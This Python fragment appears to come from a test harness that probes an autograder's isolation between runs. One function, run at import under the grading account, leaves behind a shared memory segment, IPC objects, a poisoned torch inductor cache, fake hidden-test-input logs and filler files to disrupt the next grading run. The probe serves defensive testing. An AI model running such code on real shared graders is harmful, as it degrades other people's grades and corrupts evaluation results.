# ---------------------------------------------------------------- attack: leave_behind
# At import, as the grading account: leave things for the *next* grading on this machine (issue 9 §3).
# - a SysV shared memory segment of 64 MiB, every page touched, then detached but not removed (a 1.58 GB one
#   made the next honest grade run out of memory under a container limit);
# - a poisoned torch.compile cache in /tmp/torchinductor_<account> (where inductor caches by default);
# - "hidden test inputs" logged to /tmp, /var/tmp and /dev/shm, with a marker the next run looks for;
# - a folder of filler files in /tmp (a filled /tmp cost the next grade points), kept small here.
# A message queue and a semaphore set are left too. Everything is recorded; `read_leftovers` looks for it.
def _attack_leave_behind():
    import ctypes
    import getpass
    import os

    if not _attack_is_student():
        _attack_record("leave_behind", skipped="not running as the grading account")
        return
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
    libc.shmdt.argtypes = (ctypes.c_void_p,)
    key, size, attempts = _ATTACK_CONFIG["ipc_key"], 64 * 1024 * 1024, []

    def segment():
        ident = libc.shmget(key, size, 0o1666)  # IPC_CREAT | 0666
        if ident < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        address = libc.shmat(ident, None, 0)
        ctypes.memset(address, 1, size)
        libc.shmdt(ctypes.c_void_p(address))
        return f"segment {ident}"

    attempts.append(_attack_try("SysV shm", segment))
    attempts.append(_attack_try("SysV msg", lambda: libc.msgget(key + 1, 0o1666)))
    attempts.append(_attack_try("SysV sem", lambda: libc.semget(key + 2, 1, 0o1666)))

    def write(path, text):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as stream:
            stream.write(text)
        os.chmod(path, 0o644)
        return path

    marker = _ATTACK_CONFIG["leftover_marker"]
    cache = f"/tmp/torchinductor_{getpass.getuser()}"
    attempts.append(_attack_try("poisoned inductor cache", lambda: write(f"{cache}/poisoned/{marker}.py", "import os\n")))
    attempts.append(_attack_try("env cache dir", lambda: os.environ.get("TORCHINDUCTOR_CACHE_DIR", "unset")))
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        attempts.append(_attack_try(f"log to {folder}", lambda f=folder: write(f"{f}/{marker}.log", "hidden inputs: [3, 1, 4]\n")))

    def fill():
        filler = f"/tmp/{marker}-filler"
        os.makedirs(filler, exist_ok=True)
        for number in range(16):
            with open(f"{filler}/{number}", "wb") as stream:
                stream.write(b"\0" * (1 << 20))
        return "16 MiB"

    attempts.append(_attack_try("fill /tmp", fill))
    _attack_record("leave_behind", attempts=attempts)


_attack_leave_behind()
